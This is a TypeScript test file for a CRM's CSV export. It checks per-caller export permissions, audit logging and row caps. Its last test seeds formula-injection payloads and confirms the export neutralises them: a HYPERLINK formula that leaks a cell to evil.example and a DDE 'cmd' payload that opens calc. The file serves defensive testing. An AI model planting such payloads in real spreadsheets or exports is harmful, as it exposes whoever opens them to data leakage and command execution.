import { describe, expect, it } from "vitest";

import { exportCompanies } from "../../domain/exports/export-companies";
import { callerFor, findPersona, useSeededDatabase } from "../../testing/personas";
import { csvRecords, idsExportableBy, parseCsv, scopeOf } from "./exports-test-kit";

const getDb = useSeededDatabase();

describe("exports: exactly the records the caller may export (D7)", () => {
  it.each(["admin", "petrov", "marek"])(
    "[D7] companies, contacts and deals exported by %s are the ones decide allows",
    async (persona) => {
      const db = getDb();
      const caller = await callerFor(db, persona);
      const exported = {
        company: await caller.exports.companies({}),
        contact: await caller.exports.contacts({}),
        deal: await caller.exports.deals({}),
      };
      for (const resource of ["company", "contact", "deal"] as const) {
        const expected = await idsExportableBy(db, persona, resource);
        const ids = csvRecords(exported[resource].csv).map((row) => row.id ?? "");
        expect(expected.length).toBeGreaterThan(0);
        expect(ids.sort()).toEqual(expected);
        expect(exported[resource].rowCount).toBe(expected.length);
      }
    },
  );

  it("[D7] the user's filter narrows within the reach, never beyond it", async () => {
    const db = getDb();
    const petrov = await findPersona(db, "petrov");
    const horakova = await findPersona(db, "horakova");
    const brno = await db.department.findFirstOrThrow({
      where: { projectId: petrov.projectId, name: "Sales Brno" },
    });
    const caller = await callerFor(db, "petrov");

    // Another team's records are not exportable by Petrov, whatever the filter says.
    const theirs = await caller.exports.deals({ responsibleId: horakova.id });
    const theirDepartment = await caller.exports.companies({ departmentId: brno.id });
    expect(theirs.rowCount).toBe(0);
    expect(theirDepartment.rowCount).toBe(0);
    const admin = await (
      await callerFor(db, "admin")
    ).exports.deals({ responsibleId: horakova.id });
    expect(admin.rowCount).toBe(await db.deal.count({ where: { responsibleId: horakova.id } }));
    expect(csvRecords(admin.csv).every((row) => row.responsible === horakova.name)).toBe(true);
  });

  it("[D4][D5] no export right, no export: refused with the rule, nothing audited", async () => {
    const db = getDb();
    const before = await db.auditEntry.count({ where: { action: "export" } });
    const ivanova = await callerFor(db, "ivanova");
    const auditor = await callerFor(db, "auditor");

    for (const call of [
      ivanova.exports.companies({}),
      ivanova.exports.contacts({}),
      ivanova.exports.deals({}),
    ]) {
      await expect(call).rejects.toMatchObject({
        code: "FORBIDDEN",
        details: { rule: "no-grant" },
      });
    }
    await expect(auditor.exports.deals({})).rejects.toMatchObject({
      code: "FORBIDDEN",
      details: { rule: "read-only" },
    });
    expect(await db.auditEntry.count({ where: { action: "export" } })).toBe(before);
  });
});

describe("exports: audited and bounded (E3)", () => {
  it("[E3] each export writes one entry with who, what, how many and the filter", async () => {
    const db = getDb();
    const petrov = await findPersona(db, "petrov");
    const caller = await callerFor(db, "petrov");
    const filter = { search: "s.r.o.", directionId: crypto.randomUUID() };
    const mine = { action: "export", employeeId: petrov.id };
    const before = await db.auditEntry.count({ where: mine });

    const result = await caller.exports.contacts({ search: "a" });
    const empty = await caller.exports.companies(filter);
    const entries = await db.auditEntry.findMany({
      where: { ...mine, recordId: { in: [result.exportId, empty.exportId] } },
      orderBy: { id: "asc" },
    });

    expect(entries.map((entry) => [entry.resource, entry.recordId])).toEqual([
      ["contact", result.exportId],
      ["company", empty.exportId],
    ]);
    expect(entries[0]?.after).toMatchObject({ count: result.rowCount, filter: { search: "a" } });
    expect(entries[1]?.after).toMatchObject({ count: 0, filter, columns: empty.columns });
    expect(entries[0]).toMatchObject({ actorEmail: "petrov@demo.charter.test", ip: "127.0.0.1" });
    expect(await db.auditEntry.count({ where: mine })).toBe(before + 2);
  });

  it("[E3] past the row cap the export is refused whole, and nothing is audited", async () => {
    const db = getDb();
    const scope = await scopeOf(db, "admin");
    const before = await db.auditEntry.count({ where: { action: "export" } });

    await expect(exportCompanies(scope, {}, { maxRows: 5 })).rejects.toMatchObject({
      code: "BAD_REQUEST",
      message: expect.stringContaining("more than 5 companies") as unknown,
    });
    expect(await db.auditEntry.count({ where: { action: "export" } })).toBe(before);
    const five = await exportCompanies(scope, { search: "Fixture of nobody" }, { maxRows: 5 });
    expect(five.rowCount).toBe(0);
    expect(await db.auditEntry.count({ where: { action: "export" } })).toBe(before + 1);
  });

  it("refuses unknown keys and a department of another project", async () => {
    const db = getDb();
    const b2c = await findPersona(db, "petrov", "charter-b2c");
    const other = await db.department.findFirstOrThrow({ where: { projectId: b2c.projectId } });
    const caller = await callerFor(db, "admin");

    await expect(caller.exports.deals({ amount: 5 } as never)).rejects.toMatchObject({
      code: "BAD_REQUEST",
    });
    await expect(caller.exports.contacts({ departmentId: other.id })).rejects.toMatchObject({
      code: "BAD_REQUEST",
      message: expect.stringContaining("departmentId") as unknown,
    });
  });
});

describe("exports: CSV a spreadsheet cannot be tricked by", () => {
  it("[E3] formula-like values arrive as text, quoted per RFC 4180", async () => {
    const db = getDb();
    const ivanova = await findPersona(db, "ivanova");
    const hostile = '=HYPERLINK("http://evil.example/?"&A1, "Open, please")';
    await db.company.create({
      data: {
        projectId: ivanova.projectId,
        responsibleId: ivanova.id,
        name: hostile,
        city: "@SUM(1+1)",
        phone: "-2+3+cmd|' /C calc'!A0",
        street: 'Line one\r\nLine "two"',
      },
    });
    const result = await (await callerFor(db, "admin")).exports.companies({ search: "HYPERLINK" });

    expect(result.csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1, ""Open, please"")"`);
    const [header, row, ...rest] = parseCsv(result.csv);
    expect(rest).toEqual([]);
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(cell("name")).toBe(`'${hostile}`);
    expect(cell("city")).toBe("'@SUM(1+1)");
    expect(cell("phone")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(cell("street")).toBe('Line one\r\nLine "two"');
    expect(result.csv.endsWith("\r\n")).toBe(true);
  });
});
